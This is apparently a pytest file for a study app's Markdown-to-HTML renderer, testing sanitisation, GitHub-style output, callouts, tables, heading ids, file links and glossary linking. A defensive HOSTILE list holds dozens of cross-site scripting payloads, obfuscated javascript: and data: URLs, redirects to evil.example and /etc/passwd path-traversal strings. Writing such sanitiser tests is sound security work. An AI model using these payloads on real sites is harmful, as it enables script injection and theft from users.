"""Markdown to HTML: harmless whatever an author writes, as GitHub shows it, with our callouts, figures and links."""

import re
from html.parser import HTMLParser

import pytest

from studyapp.formats.addresses import Addresses
from studyapp.formats.markdown import parser, slug, with_ids
from studyapp.formats.problems import Problems
from studyapp.formats.prose import ATTRIBUTES, TAGS, Scope, render, render_inline, render_tokens


def html_of(text: str, scope: Scope | None = None) -> str:
    """The HTML of sound Markdown."""
    problems = Problems()
    html = render(text, scope or Scope(), problems)
    assert [str(problem) for problem in problems] == []
    return html


class Seen(HTMLParser):
    """Every tag with its attributes, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.declared: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_decl(self, decl: str) -> None:
        self.declared.append(decl)

    def handle_pi(self, data: str) -> None:
        self.declared.append(data)

    def handle_comment(self, data: str) -> None:
        self.declared.append(data)


def is_harmless(html: str) -> bool:
    """Only tags and attributes that do nothing, no address that runs or fetches anything, nothing but tags and text."""
    seen = Seen(html)
    for tag, attributes in seen.tags:
        if tag not in TAGS or not attributes.keys() <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()):
            return False
        for name in ("href", "src"):
            address = re.sub(r"[\x00-\x20]", "", attributes.get(name) or "").lower()  # browsers drop these
            scheme = match[1] if (match := re.match(r"([a-z][a-z0-9+.-]*):", address)) else ""
            if scheme not in ("", "http", "https", "mailto") or (
                name == "src" and (scheme or address.startswith("//"))
            ):
                return False
    return seen.declared == []


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<button hx-get='/logout'>x</button>",
    "<div hx-post=/x hx-trigger=load data-hx-get=/y>x</div>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=x><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<video src=x autoplay></video>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p></div></main><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x](x \"\" onmouseover=\"alert(1)\")",
    "[x](x 'a\" onmouseover=\"alert(1)')",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x](HtTpS://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    "![\"onerror=\"alert(1)](x)",
    "![x](x \"a' onerror='alert(1)\")",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "| \"><img src=x onerror=alert(1)> | b |\n|---|---|\n| c | d |",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "> [!EXAM]\n> <script>alert(1)</script>",
    "> [!<script>]\n> x",
    "- [x] <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "## \" onclick=\"alert(1)",
    "[3 cups](figure:<script>)",
    "[<img src=x onerror=alert(1)>](figure:mug.cups)",
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](x)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_comes_out_harmless(text: str) -> None:
    for around in ("{}", "> {}", "- a\n\n  {}", "a {} b"):
        html = render(around.format(text), Scope(terms={"alert": "/glossary/alert/"}), Problems())
        assert is_harmless(html), html
    assert is_harmless(render_inline(text, Scope(), Problems()))


def test_the_look_for_harm_would_see_some() -> None:
    harmful = [
        "<script>x</script>", "<p onclick=x>", "<p style=x>", "<p hx-get=x>", '<a href="java\nscript:x">', '<img src="https://x">',
        '<img src="//x">', "<!-- x -->", "<!DOCTYPE x>", "<?x>", '<a href="data:x">', "<p data-hx-get=x>", "<input>",
    ]  # fmt: skip
    assert [html for html in harmful if is_harmless(html)] == []
    assert is_harmless(
        '<p id="a" class="b"><a href="https://x" title="y">x</a> <img src="x.png" alt="">&lt;script&gt;</p>'
    )


@pytest.mark.parametrize("text", ["<b>x</b>", "a <br> b", "<div>\nx\n</div>", "<!-- x -->", "x <!-- y -->"])
def test_raw_html_is_shown_as_text_and_is_a_problem(text: str) -> None:
    problems = Problems()
    html = render(text, Scope("a.md"), problems)
    assert Seen(html).tags in ([("p", {})], [])
    assert {str(one).split(":")[2].strip() for one in problems} == {"raw HTML is not read"}


# As GitHub shows it.


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a *b* **c** ~~d~~ `e`", "<p>a <em>b</em> <strong>c</strong> <s>d</s> <code>e</code></p>\n"),
        ("a  \nb\nc", "<p>a<br>\nb\nc</p>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("www.example.org", "<p>www.example.org</p>\n"),
        ("a & b < c", "<p>a &amp; b &lt; c</p>\n"),
        ("---", "<hr>\n"),
        ("```python\na\n```", '<pre><code class="language-python">a\n</code></pre>\n'),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>\n"),
        ("[a](https://a.example \"b\")", '<p><a href="https://a.example" title="b">a</a></p>\n'),
        ("<mailto:a@b.example>", '<p><a href="mailto:a@b.example">mailto:a@b.example</a></p>\n'),
    ],
)  # fmt: skip
def test_markdown_is_shown_as_github_shows_it(text: str, html: str) -> None:
    assert html_of(text) == html


@pytest.mark.parametrize("text", ["1. May", "- five", "# one", "> more", "a | b", "    code", "---"])
def test_a_line_is_a_line_and_no_block(text: str) -> None:
    html = render_inline(text, Scope(), Problems())
    assert (Seen(html).tags, html.replace("&gt;", ">")) == ([], text.strip())


def test_a_line_keeps_its_marks_and_its_figures() -> None:
    scope = Scope(figures={"mug.cups": "2 cups"})
    assert render_inline("*two*: [2 cups](figure:mug.cups)", scope, Problems()) == (
        '<em>two</em>: <span class="figure">2 cups</span>'
    )


# Callouts.


@pytest.mark.parametrize(
    ("word", "name", "label"),
    [
        ("NOTE", "note", "Note"), ("tip", "tip", "Tip"), ("IMPORTANT", "important", "Important"), ("WARNING", "warning", "Warning"),
        ("CAUTION", "caution", "Caution"), ("EXAM", "exam", "In the exam"), ("PRACTICE", "practice", "In practice"),
        ("Confused", "confused", "Often confused"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("gap", ["", ">\n"])
def test_a_callout_is_an_aside_with_its_label(word: str, name: str, label: str, gap: str) -> None:
    html = html_of(f"> [!{word}]\n{gap}> One.\n>\n> - two\n\nAfter.")
    tags = [(tag, attributes.get("class")) for tag, attributes in Seen(html).tags]
    assert tags == [
        ("aside", f"callout {name}"),
        ("p", "callout-label"),
        ("p", None),
        ("ul", None),
        ("li", None),
        ("p", None),
    ]
    assert f'<p class="callout-label">{label}</p>' in html
    assert "[!" not in html


def test_a_callout_within_a_quote_closes_where_it_ends() -> None:
    html = html_of("> > [!EXAM]\n> > In.\n>\n> Out.")
    assert html.index("In.") < html.index("</aside>") < html.index("Out.") < html.index("</blockquote>")


def test_a_problem_in_a_callout_is_said_on_its_line() -> None:
    nowhere = Scope("a.md", resolve=lambda href: None)
    for word in ("EXAM", "NOTE"):
        problems = Problems()
        render(f"> [!{word}]\n> One.\n> [x](y)\n>\n> [x](y)\n", nowhere, problems)
        assert [problem.line for problem in problems] == [3, 5]


# Tables.


def test_a_table_keeps_its_roles_and_each_cell_the_head_of_its_column() -> None:
    html = html_of("|  | *Way* | Cups |\n|---|:-:|---:|\n| Mug | hot | 2 |\n")
    assert Seen(html).tags == [
        ("table", {"role": "table"}),
        ("thead", {"role": "rowgroup"}),
        ("tr", {"role": "row"}),
        ("td", {"role": "cell"}),
        ("th", {"role": "columnheader", "scope": "col"}),
        ("em", {}),
        ("th", {"role": "columnheader", "scope": "col", "class": "number"}),
        ("tbody", {"role": "rowgroup"}),
        ("tr", {"role": "row"}),
        ("td", {"role": "cell", "data-label": ""}),
        ("td", {"role": "cell", "data-label": "Way"}),
        ("td", {"role": "cell", "data-label": "Cups", "class": "number"}),
    ]


def test_each_table_has_heads_of_its_own() -> None:
    html = html_of("| a |\n|---|\n| 1 |\n\n| b |\n|---|\n| 2 |\n| 3 |\n")
    assert [attributes["data-label"] for tag, attributes in Seen(html).tags if tag == "td"] == ["a", "b", "b"]


# Headings.


@pytest.mark.parametrize(
    ("text", "id"),
    [("The three tins", "the-three-tins"), ("Who's next?", "whos-next"), ("a – b", "a--b"), ("Über_alles 2", "über_alles-2"), (" 5 °C ", "5-c")],
)  # fmt: skip
def test_a_heading_has_the_id_that_github_gives_it(text: str, id: str) -> None:
    assert slug(text) == id
    assert Seen(html_of(f"## {text}")).tags == [("h2", {"id": id})]


def test_headings_that_say_the_same_are_counted() -> None:
    html = html_of("## A\n\n### A\n\n## *B*\n\n## A\n\n## B\n")
    assert [attributes["id"] for _, attributes in Seen(html).tags if "id" in attributes] == [
        "a",
        "a-1",
        "b",
        "a-2",
        "b-1",
    ]


# Links between files.

PAGES = Addresses("tea", anchors={"modules/leaf/1-tin.md": {"the-tin"}, "glossary.md": {"leaf"}})
PAGES.add(
    ["course.yaml", "glossary.md", "register.yaml", "worksheet.yaml", "modules/leaf/module.yaml", "modules/leaf/1-tin.md", "options/pot.yaml",
     "trees/brew.yaml", "banks/leaf.md", "facts.yaml"]
)  # fmt: skip


@pytest.mark.parametrize(
    ("href", "address"),
    [
        ("1-tin.md", "/courses/tea/modules/leaf/tin/"),
        ("1-tin.md#the-tin", "/courses/tea/modules/leaf/tin/#the-tin"),
        ("1-tin.md#the-pot", None),
        ("#the-tin", "#the-tin"),
        ("#the-pot", None),
        ("2-pot.md", None),
        ("module.yaml", "/courses/tea/modules/leaf/"),
        ("../leaf/1-tin.md", "/courses/tea/modules/leaf/tin/"),
        ("../../course.yaml", "/courses/tea/"),
        ("../../options/pot.yaml", "/courses/tea/options/pot/"),
        ("../../trees/brew.yaml", "/courses/tea/trees/brew/"),
        ("../../register.yaml", "/courses/tea/options/#figures"),
        ("../../worksheet.yaml", "/courses/tea/worksheet/"),
        ("../../glossary.md", "/courses/tea/glossary/"),
        ("../../glossary.md#leaf", "/courses/tea/glossary/leaf/"),
        ("../../glossary.md#pot", None),
        ("../../banks/leaf.md", None),
        ("../../facts.yaml", None),
        ("../../../../etc/passwd", None),
        ("/courses/tea/", None),
        ("//evil.example/", None),
        ("https://a.example/b", "https://a.example/b"),
        ("mailto:a@b.example", "mailto:a@b.example"),
        ("ftp://a.example", None),
    ],
)
def test_a_link_between_files_is_one_between_pages(href: str, address: str | None) -> None:
    assert PAGES.resolver("modules/leaf/1-tin.md")(href) == address


def test_a_link_is_written_with_its_address() -> None:
    scope = PAGES.scope(Scope(), "modules/leaf/1-tin.md", "content/tea/modules/leaf/1-tin.md")
    assert html_of("[pot](../../options/pot.yaml)", scope) == '<p><a href="/courses/tea/options/pot/">pot</a></p>\n'


# Glossary terms.

TERMS = Scope(terms={"tea": "/tea/", "tea leaf": "/leaf/", "steep": "/steep/"})


@pytest.mark.parametrize(
    ("text", "linked"),
    [
        ("Tea and tea.", [("/tea/", "Tea")]),
        ("A tea leaf, a leaf, tea.", [("/leaf/", "tea leaf"), ("/tea/", "tea")]),
        ("Steep the TEA.", [("/steep/", "Steep"), ("/tea/", "TEA")]),
        ("steeped, teas, tea-time, green-tea, instead", []),
        ("(tea), tea’s", [("/tea/", "tea")]),
        ("`tea` then", []),
        ("[tea](https://a.example) then", []),
        ("**tea** then *steep*", []),
        ("## tea", []),
        ("| tea |\n|---|\n| steep |", []),
        ("```\ntea\n```", []),
        ("![tea](cup.png)", []),
        ("- tea\n\n> steep", [("/tea/", "tea"), ("/steep/", "steep")]),
        ("`tea` then tea", [("/tea/", "tea")]),
        ("ſteep and ſteep", []),
    ],
)
def test_a_term_is_linked_once_where_it_is_first_mentioned(text: str, linked: list[tuple[str, str]]) -> None:
    html = html_of(text, TERMS)
    found = [
        piece.split("</a>")[0].split('" class="term">') for piece in html.split('<a href="')[1:] if "term" in piece
    ]
    assert [tuple(parts) for parts in found] == linked


def test_what_a_page_has_linked_is_not_linked_again() -> None:
    linked = {"/steep/"}
    html = render_tokens(with_ids(parser().parse("tea, steep")), TERMS, Problems(), 1, linked)
    assert html == '<p><a href="/tea/" class="term">tea</a>, steep</p>\n'
    assert linked == {"/tea/", "/steep/"}
